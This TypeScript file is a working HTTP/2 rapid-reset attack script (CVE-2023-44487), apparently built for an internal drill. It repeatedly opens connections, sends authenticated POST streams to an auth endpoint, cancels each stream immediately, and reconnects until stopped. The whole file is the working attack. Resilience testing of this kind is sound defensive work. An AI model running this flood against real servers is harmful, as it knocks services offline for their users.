import http2 from "node:http2";
import net from "node:net";
import { setTimeout as sleep } from "node:timers/promises";

/**
 * The rapid-reset attack of the drill (CVE-2023-44487), in a process of its own: an attacker in the
 * drill's process would share its event loop with the client whose latency is measured, and slow
 * that client itself. No load generator resets streams on purpose, hence this script.
 * Like a real attacker it opens a new connection each time one is closed, until SIGTERM.
 * Usage: h2-attacker <reset-body|reset-headers> <url> <access token> [source address]. Prints one
 * JSON line of what it did.
 */
const [mode, url, token, localAddress] = process.argv.slice(2);
if ((mode !== "reset-body" && mode !== "reset-headers") || !url || !token) throw new Error("usage: h2-attacker <reset-body|reset-headers> <url> <access token>");

const tally = { resetsSent: 0, connections: 0, refused: 0, longestConnectionResets: 0 };
let stopping = false;
process.once("SIGTERM", () => (stopping = true));

/** One connection, reset stream after stream until the server closes it; false when it was refused. */
async function attackOnce(): Promise<boolean> {
  const { hostname, port } = new URL(url!);
  const session = http2.connect(url!, { createConnection: () => net.connect({ host: hostname, port: Number(port), ...(localAddress ? { localAddress } : {}) }) });
  session.on("error", () => {});
  let closed = false;
  session.once("close", () => (closed = true));
  // A server that refuses a connection closes it before its SETTINGS: that is not one attacked.
  const up = await new Promise<boolean>((resolve) => {
    session.once("remoteSettings", () => resolve(true));
    session.once("close", () => resolve(false));
  });
  if (!up) return false;
  tally.connections += 1;
  if (tally.connections === 1) console.log(JSON.stringify({ connected: true }));
  let sent = 0;
  while (!closed && !stopping) {
    try {
      const stream = session.request({ ":method": "POST", ":path": "/auth.v1.AuthService/GetMe", "content-type": "application/json", authorization: `Bearer ${token}` });
      stream.on("error", () => {});
      if (mode === "reset-body") stream.write("{");
      stream.close(http2.constants.NGHTTP2_CANCEL);
      sent += 1;
    } catch {
      break;
    }
    if (sent % 20 === 0) await sleep(1);
  }
  tally.resetsSent += sent;
  tally.longestConnectionResets = Math.max(tally.longestConnectionResets, sent);
  session.destroy();
  return true;
}

while (!stopping) {
  if (!(await attackOnce())) {
    tally.refused += 1;
    await sleep(1);
  }
}
console.log(JSON.stringify(tally));
